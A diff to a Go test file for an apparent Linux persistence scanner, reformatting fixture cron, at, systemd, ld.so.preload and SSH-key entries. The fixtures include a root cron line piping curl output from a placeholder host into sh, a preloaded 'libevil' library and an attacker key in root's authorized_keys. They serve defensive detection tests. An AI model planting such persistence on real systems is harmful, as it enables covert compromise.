@@ -52,17 +52,25 @@ func persistenceTree(t *testing.T) string {
 		"/etc/crontab": "SHELL=/bin/sh\n# m h dom mon dow user command\n" +
 			"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n" +
 			"@reboot   bob   /tmp/.x/start   --quiet\n",
-		"/etc/cron.d/miner":                  "*/5 * * * * root /usr/bin/curl -s http://x | sh\n",
-		"/etc/cron.daily/logrotate":          "#!/bin/sh\nlogrotate /etc/logrotate.conf\n",
-		"/var/spool/cron/crontabs/alice":     "# edit with crontab -e\n0 3 * * * /home/alice/backup.sh\n",
-		"/var/spool/at/a0001":                "#!/bin/sh\n# atrun uid=0\nexport PATH\ncd /root\n/tmp/payload\n",
-		"/etc/init.d/helper":                 "#!/bin/sh\n/opt/helper start\n",
-		"/etc/ld.so.preload":                 "/lib/libevil.so\n# comment\n/lib/libtwo.so:/lib/libthree.so\n",
-		"/etc/systemd/system/x.timer":        "[Timer]\nOnCalendar=hourly\nUnit=y.service\n",
-		"/etc/systemd/system/z.timer":        "[Timer]\nOnBootSec=5min\n",
-		"/etc/systemd/system/svc.service.d/o.conf": "[Service]\nExecStart=\nExecStart=-/usr/bin/env \\\n  override\n",
-		"/lib/systemd/system/ssh.service":    "[Service]\nUser=sshd\nExecStart=/usr/sbin/sshd -D\n",
-		"/home/alice/.config/systemd/user/u.service": "[Service]\nExecStart=/home/alice/.local/bin/agent\n",
+		"/etc/cron.d/miner": "*/5 * * * * root /usr/bin/curl -s http://x | sh\n" +
+			"",
+		"/etc/cron.daily/logrotate": "#!/bin/sh\nlogrotate /etc/logrotate.conf\n",
+		"/var/spool/cron/crontabs/alice": "# edit with crontab -e\n" +
+			"0 3 * * * /home/alice/backup.sh\n",
+		"/var/spool/at/a0001": "#!/bin/sh\n# atrun uid=0\nexport PATH\n" +
+			"cd /root\n/tmp/payload\n",
+		"/etc/init.d/helper": "#!/bin/sh\n/opt/helper start\n",
+		"/etc/ld.so.preload": "/lib/libevil.so\n# comment\n" +
+			"/lib/libtwo.so:/lib/libthree.so\n",
+		"/etc/systemd/system/x.timer": "[Timer]\nOnCalendar=hourly\n" +
+			"Unit=y.service\n",
+		"/etc/systemd/system/z.timer": "[Timer]\nOnBootSec=5min\n",
+		"/etc/systemd/system/svc.service.d/o.conf": "[Service]\nExecStart=\n" +
+			"ExecStart=-/usr/bin/env \\\n  override\n",
+		"/lib/systemd/system/ssh.service": "[Service]\nUser=sshd\n" +
+			"ExecStart=/usr/sbin/sshd -D\n",
+		"/home/alice/.config/systemd/user/u.service": "[Service]\n" +
+			"ExecStart=/home/alice/.local/bin/agent\n",
 		"/home/alice/.ssh/authorized_keys": "ssh-ed25519 AAAA alice@laptop\n" +
 			`command="/usr/bin/rsync --server \"x\"",no-pty ssh-rsa AAAA backup` + "\n",
 		"/root/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker\n",
@@ -76,7 +84,8 @@ func persistenceTree(t *testing.T) string {
 	if err := os.MkdirAll(wants, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	if err := os.Symlink("/lib/systemd/system/ssh.service", filepath.Join(wants, "ssh.service")); err != nil {
+	unit := "/lib/systemd/system/ssh.service"
+	if err := os.Symlink(unit, filepath.Join(wants, "ssh.service")); err != nil {
 		t.Fatal(err)
 	}
 	return root
@@ -100,14 +109,17 @@ func TestPersistenceTypes(t *testing.T) {
 			"cd / && run-parts --report /etc/cron.hourly", "root", "root"},
 		{"crontab @reboot", "/etc/crontab", TypeCron, "/tmp/.x/start   --quiet", "bob", "root"},
 		{"cron.d", "/etc/cron.d/miner", TypeCron, "/usr/bin/curl -s http://x | sh", "root", "root"},
-		{"cron.daily", "/etc/cron.daily/logrotate", TypeCron, "/etc/cron.daily/logrotate", "root", "root"},
-		{"user crontab", "/var/spool/cron/crontabs/alice", TypeCron, "/home/alice/backup.sh", "alice", "root"},
+		{"cron.daily", "/etc/cron.daily/logrotate", TypeCron, "/etc/cron.daily/logrotate",
+			"root", "root"},
+		{"user crontab", "/var/spool/cron/crontabs/alice", TypeCron, "/home/alice/backup.sh",
+			"alice", "root"},
 		{"at job", "/var/spool/at/a0001", TypeAt, "/tmp/payload", "root", "root"},
 		{"init.d", "/etc/init.d/helper", TypeInitD, "", "root", "root"},
 		{"preload", "/etc/ld.so.preload", TypeLdSoPreload,
 			"/lib/libevil.so /lib/libtwo.so /lib/libthree.so", "root", "root"},
 		{"timer with Unit", "/etc/systemd/system/x.timer", TypeSystemdTimer, "y.service", "root", "root"},
-		{"timer default unit", "/etc/systemd/system/z.timer", TypeSystemdTimer, "z.service", "root", "root"},
+		{"timer default unit", "/etc/systemd/system/z.timer", TypeSystemdTimer, "z.service",
+			"root", "root"},
 		{"drop-in", "/etc/systemd/system/svc.service.d/o.conf", TypeSystemdUnit,
 			"/usr/bin/env override", "root", "root"},
 		{"unit with User", "/lib/systemd/system/ssh.service", TypeSystemdUnit,
